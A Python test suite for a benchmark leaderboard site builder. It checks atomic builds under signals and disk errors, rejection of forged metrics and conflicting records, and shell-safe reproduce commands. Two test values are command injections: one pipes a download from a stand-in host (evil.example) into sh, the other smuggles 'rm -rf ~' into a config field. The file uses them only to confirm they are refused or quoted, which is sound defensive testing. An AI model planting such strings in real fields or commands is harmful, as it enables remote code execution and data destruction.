"""A site build that fails, is interrupted or is pointed at the wrong place leaves the site before it
as it was and deletes no record; a record that lies about its numbers (a fraction above 1, an
integer no float holds, two answers for one run, a commit that is a shell command) never reaches
the board as if it were true."""

from __future__ import annotations

import copy
import errno
import hashlib
import html
import json
import os
import re
import shlex
import signal
import subprocess
import sys
from pathlib import Path

import pytest

import suite.site.build
from suite import records
from suite.record_store import read_record, validate, write_record
from suite.records import RecordError
from suite.site import build_site
from suite.site.__main__ import main
from suite.site.board import board_rows
from suite.site.runs import load_runs
from tests.test_site import train_record

REPO = Path(__file__).resolve().parent.parent


def small_results(root: Path) -> Path:
    """Three seeds of softmax on listops: one board cell, 40% on average."""
    for seed, accuracy in enumerate((0.39, 0.40, 0.41)):
        write_record(train_record("softmax", "listops", seed, accuracy), root)
    return root


def digest(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` by its path, with a hash of its bytes."""
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def old_site(tmp_path) -> tuple[Path, Path, dict[str, str]]:
    """A results folder, a site built from it, and what the site held."""
    results = small_results(tmp_path / "results")
    out = build_site(results, tmp_path / "site").out_dir
    return results, out, digest(out)


def siblings(out: Path) -> list[str]:
    """What lies beside the site folder (a build's leftovers would)."""
    return sorted(p.name for p in out.parent.iterdir())


# -- an atomic build --------------------------------------------------------------------------------

# Run the site's CLI with its records table made slow, so that a signal lands halfway through.
HALFWAY = """
import signal, sys, time
# A user's Ctrl-C: the default handler, whatever this test's runner passed on (a background job of a
# non-interactive shell starts with SIGINT ignored, and a child inherits that).
signal.signal(signal.SIGINT, signal.default_int_handler)
import suite.site.build as build
real = build.records_csv
def slow(runs):
    print("halfway", flush=True)
    time.sleep(120)
    return real(runs)
build.records_csv = slow
from suite.site.__main__ import main
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT, signal.SIGKILL], ids=lambda s: s.name)
def test_a_build_killed_halfway_leaves_the_old_site_intact(old_site, tmp_path, signum):
    results, out, before = old_site
    write_record(train_record("linear", "listops", 0, 0.3), results)  # the new build has more to show
    process = subprocess.Popen([sys.executable, "-c", HALFWAY, "--results", str(results), "--out", str(out)],
                               cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert process.stdout.readline().strip() == "halfway"  # pages and figures written, the tables not yet
    assert any(p.name.startswith(".site.building-") for p in out.parent.iterdir())  # the half-built site
    process.send_signal(signum)
    _, err = process.communicate(timeout=60)
    assert digest(out) == before  # the old site, byte for byte
    if signum == signal.SIGKILL:
        # Nothing runs after SIGKILL: the half-built folder stays beside the site (a dot folder), the site is whole.
        assert process.returncode == -signal.SIGKILL and siblings(out)[0].startswith(".site.building-")
    else:
        assert process.returncode == 130 and f"interrupted: the site in {str(out)!r} is left as it was" in err
        assert siblings(out) == ["results", "site"]  # the half-built folder is gone
    assert main(["--results", str(results), "--out", str(out)]) == 0  # and the next build runs
    assert "linear" in (out / "index.html").read_text()


def test_a_build_that_fails_writing_names_the_file_and_keeps_the_old_site(old_site, monkeypatch, capsys):
    results, out, before = old_site

    write_text = Path.write_text

    def disk_full_at_the_csv(path: Path, text: str, *args, **kwargs):  # the last table the build writes
        if path.name == "records.csv":
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))
        return write_text(path, text, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", disk_full_at_the_csv)
    assert main(["--results", str(results), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("error: cannot write ") and "/records.csv" in err
    assert ": No space left on device; the site in " in err and "is left as it was" in err
    assert digest(out) == before and siblings(out) == ["results", "site"]


def test_several_results_folders_are_refused_not_half_read(old_site, tmp_path, capsys):
    """Issue 46: a second --results replaced the first, and the board showed part of the records."""
    results, out, before = old_site
    other = tmp_path / "other-results"
    other.mkdir()
    assert main(["--results", str(results), "--results", str(other), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert err == (f"error: --results given 2 times ({results}, {other}); give one folder of verified records, "
                   "and each other folder of records as --submitted\n")
    assert digest(out) == before


def test_results_inside_the_output_are_refused_and_never_deleted(old_site, capsys):
    _, out, before = old_site
    copies = out / "records"  # the site's own copies of the records, read back as a results folder
    assert main(["--results", str(copies), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert f"error: --out {str(out)!r} and --results {str(copies)!r} overlap" in err
    assert digest(out) == before
    assert len(load_runs(copies)[0]) == 3


@pytest.mark.parametrize("case", ["a file", "read-only"])
def test_an_output_that_is_a_file_or_read_only_is_one_line_naming_it(old_site, tmp_path, monkeypatch, capsys, case):
    results, out, before = old_site
    if case == "a file":
        target = tmp_path / "notes.txt"
        target.write_text("keep me")
        says = f"error: --out {str(target)!r} is a file, not a folder; choose another --out"
    else:
        target = out

        def read_only(suffix=None, prefix=None, dir=None):
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(Path(dir) / prefix))

        monkeypatch.setattr(suite.site.build.tempfile, "mkdtemp", read_only)
        says = f"error: cannot build beside --out {str(out)!r}: {out.parent}/.site.building-: Read-only file system"
    assert main(["--results", str(results), "--out", str(target)]) == 2
    err = capsys.readouterr().err
    assert err == says + "\n"
    assert digest(out) == before
    if case == "a file":
        assert target.read_text() == "keep me"


# -- records that cannot lie about their numbers ------------------------------------------------------

def forged(results: Path, **metrics) -> Path:
    """A copy of seed 0's record with other metrics and a created time in the future (it would be
    'the latest'), written as a file of its own."""
    source = next(p for p in sorted(results.rglob("*.json")) if read_record(p)["config"]["seed"] == 0)
    record = json.loads(source.read_text())
    record["metrics"].update(metrics)
    record["created"], record["run_id"] = "2099-01-01T00:00:00Z", "20990101T000000Z_forged"
    path = source.parent / "forged.json"
    path.write_text(json.dumps(record))
    return path


def cell_text(out: Path) -> str:
    rows = board_rows(load_runs(out.parent / "results")[0])
    cell = next(iter(rows[0].cells.values()))
    return f"{100 * cell.mean():.1f} n={len(cell.values())}"


@pytest.mark.parametrize("value, says", [
    (1.5, "field 'metrics.test_accuracy': Input should be less than or equal to 1"),
    (1e308, "field 'metrics.test_accuracy': Input should be less than or equal to 1"),
    (-0.1, "field 'metrics.test_accuracy': Input should be greater than or equal to 0"),
])
def test_a_fraction_out_of_range_is_skipped_naming_it(old_site, value, says):
    results, out, _ = old_site
    path = forged(results, test_accuracy=value)
    report = build_site(results, out)
    assert report.runs == 3 and report.problems == [f"skipping {path}: {says}"]
    assert cell_text(out) == "40.0 n=3"  # the cell is the three honest seeds'
    assert "inf%" not in (out / "index.html").read_text()


@pytest.mark.parametrize("where, value, says", [
    ("metrics.steps", 2 * 10**308, "an integer of 309 digits is beyond 64 bits"),
    ("metrics.extra_count", 10**400, "an integer of 401 digits is beyond 64 bits"),  # a key no schema names
    ("metrics.train_tokens_per_s", float("inf"), "inf is not a finite number"),
    ("metrics.extra_rate", float("nan"), "nan is not a finite number"),
])
def test_a_number_no_reader_can_take_is_skipped_and_the_csv_is_written(old_site, where, value, says):
    results, out, _ = old_site
    path = forged(results, **{where.split(".")[1]: value})
    report = build_site(results, out)
    assert report.problems == [f"skipping {path}: field {where!r}: {says}" + (
        f" (at most {2**63 - 1})" if "digits" in says else "")]
    assert (out / "records.csv").read_text().count("\n") == 4  # the header and the three records


def test_two_records_of_one_run_that_disagree_are_a_conflict_not_latest_wins(old_site, capsys):
    results, out, _ = old_site
    path = forged(results, test_accuracy=0.9, val_accuracy=0.9)  # valid, but not what seed 0 gave
    assert main(["--results", str(results), "--out", str(out)]) == 0
    err = capsys.readouterr().err
    digest = read_record(path)["config_hash"]
    assert (f"warning: conflict: 2 records of one run (config hash {digest}, seed 0) disagree, so the verified row "
            "on test cpu shows none of them") in err
    assert f"{path.relative_to(results).as_posix()}: test_accuracy=0.9" in err
    assert "test_accuracy=0.39" in err
    assert cell_text(out) == "40.5 n=2"  # seeds 1 and 2: neither of seed 0's answers is shown
    assert "conflict: 2 records of one run" in (out / "index.html").read_text()


def test_a_rerun_that_agrees_is_no_conflict(old_site):
    results, out, _ = old_site
    forged(results, train_tokens_per_s=123.0)  # another speed, the same accuracy: a rerun
    assert build_site(results, out).problems == []
    assert cell_text(out) == "40.0 n=3"


# -- shell-safe reproduce lines ----------------------------------------------------------------------

HOSTILE = "abc123; curl evil.example | sh"


def test_a_hostile_commit_field_is_refused_and_never_printed_into_a_command(tmp_path):
    record = train_record("softmax", "listops", 0, 0.4)
    record["env"]["git_commit"] = HOSTILE
    with pytest.raises(RecordError, match=r"field 'env.git_commit': String should match pattern"):
        validate(copy.deepcopy(record), "hostile")
    results = tmp_path / "results"
    path = results / "train" / "listops" / "softmax" / "hostile.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(record))
    report = build_site(results, tmp_path / "site")
    assert report.runs == 0 and "field 'env.git_commit'" in report.problems[0]
    assert not [p for p in (tmp_path / "site").rglob("*.html") if "curl evil" in p.read_text()]


def test_the_run_page_prints_a_checked_commit_and_a_quoted_command(tmp_path):
    record = train_record("softmax", "listops", 0, 0.4)
    record["config"]["method"]["impl"] = "auto; rm -rf ~"
    record["config_hash"] = records.config_hash(record["config"], "cpu")  # hashed as written: not skipped
    write_record(record, tmp_path / "results")
    build_site(tmp_path / "results", tmp_path / "site")
    page = next((tmp_path / "site" / "runs").glob("*.html")).read_text()
    assert "git checkout abc123\n" in page
    command = html.unescape(re.search(r"git checkout abc123\n(.*?)</pre>", page, re.S).group(1))
    words = shlex.split(command)  # what a shell makes of the pasted line: the value stays one word
    assert words[:3] == ["python", "-m", "suite"] and "method.impl='auto; rm -rf ~'" in words
